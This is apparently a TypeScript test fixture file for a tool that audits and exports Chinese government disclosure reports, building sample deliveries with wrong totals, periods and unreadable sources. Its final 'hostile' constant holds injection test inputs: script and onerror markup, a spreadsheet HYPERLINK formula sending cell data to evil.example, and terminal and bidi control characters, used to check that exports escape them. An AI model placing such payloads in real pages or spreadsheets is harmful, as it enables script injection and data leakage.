/** Deliveries for tests, and texts of hostile pages. */
import type { Delivery } from '../../lib/export/delivery.ts';
import type { Imprint } from '../../lib/export/imprint.ts';
import { deliver, type ExportFormat } from '../../lib/export/index.ts';
import { viewOf as viewOfPublished } from '../../lib/export/reopened.ts';
import { toResult } from '../../lib/findings/result.ts';
import '../../lib/locales/index.ts';
import type { Locale } from '../../lib/model/locale.ts';
import type { AuditResult } from '../../lib/model/result.ts';
import { defaultPapers } from '../../lib/model/settings.ts';
import { reviewReport } from '../../lib/triage/reviewed-report.ts';
import { quote, type ReportChanges } from '../checks/report-builder.ts';
import { viewOf } from '../findings/audited.ts';

export const source: AuditResult['source'] = {
  kind: 'html',
  name: 'reports/a.html',
  url: 'https://www.example.gov.cn/nb.html',
  sha256: 'ab'.repeat(32),
};

/** 21 November 2026, 9:05 in the local time zone. */
export const at = new Date(2026, 10, 21, 9, 5);

/** An office that the settings name no further. */
export const imprint: Imprint = { papers: defaultPapers, version: '0.1.0', at };

/** A row total too high by one: 63 natural persons, total 64; so 64 came in and 63 were handled. */
export const wrongTotal: ReportChanges = {
  cells: {
    't3.received.natural': '63',
    't3.received.total': '64',
    't3.granted.natural': 63,
    't3.granted.total': 63,
    't3.outcomes.natural': 63,
    't3.outcomes.total': 63,
  },
};

/** The statistics end a month early: one finding, of nothing else. */
export const wrongPeriod: ReportChanges = {
  period: { from: [2023, 1, 1], to: [2023, 11, 30], quote: quote('2023年1月1日至11月30日') },
};

export function deliveryOf(changes: ReportChanges, more: Partial<Delivery> = {}, locale: Locale = 'zh-CN'): Delivery {
  const view = viewOf(changes);
  return { result: toResult(view, source, locale, 4.1), reviewed: reviewReport(view, '', []), at, ...more };
}

/** The text of a file in Chinese. */
export async function textFile(
  format: Exclude<ExportFormat, 'xlsx' | 'docx'>,
  ...deliveries: Delivery[]
): Promise<string> {
  const { content } = await deliver(format, deliveries, 'zh-CN', imprint);
  if (typeof content !== 'string') throw new Error('not text');
  return content;
}

/** The count of a rule that threw an error. */
export const brokenRule = { rule: 'period', pass: 0, fail: 0, review: 0, notApplicable: 0, error: 'no ink' };

/** The delivery with its result changed. */
export function withResult(delivery: Delivery, changes: Partial<AuditResult>): Delivery {
  const result = { ...delivery.result, ...changes };
  return { ...delivery, result, reviewed: undecided(result) };
}

/** The problems of a published result, on which nobody decided. */
export function undecided(result: AuditResult): Delivery['reviewed'] {
  return result.report === null ? null : reviewReport(viewOfPublished(result.report, result), '', []);
}

const nothing = { report: null, findings: [], checks: [] };
export const unreadable = withResult(deliveryOf({}), {
  ...nothing,
  source: { kind: 'text', name: '年报 a?.txt', url: null, sha256: '' },
  error: '无法读取：EACCES',
  standing: 'unreadable',
});
export const noReport = withResult(deliveryOf({}), { ...nothing, standing: 'not-a-report' });
export const olderReport = withResult(deliveryOf({}), { ...nothing, standing: 'before-the-forms', year: 2016 });

/** The delivery with its first finding changed. */
export function withFinding(delivery: Delivery, changes: Partial<AuditResult['findings'][number]>): Delivery {
  const [first, ...others] = delivery.result.findings;
  if (first === undefined) throw new Error('nothing was found');
  return withResult(delivery, { findings: [{ ...first, ...changes }, ...others] });
}

export const hostile = {
  markup: '<img src=x onerror="alert(1)">&amp;<script>alert(2)</script>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
  controls: 'a\u0000b\u001b[2Jc\u202ed\uffffe',
  halves: 'x\ud83dy\udc00z',
  emoji: '👩‍👩‍👧‍👦 🏛️',
} as const;
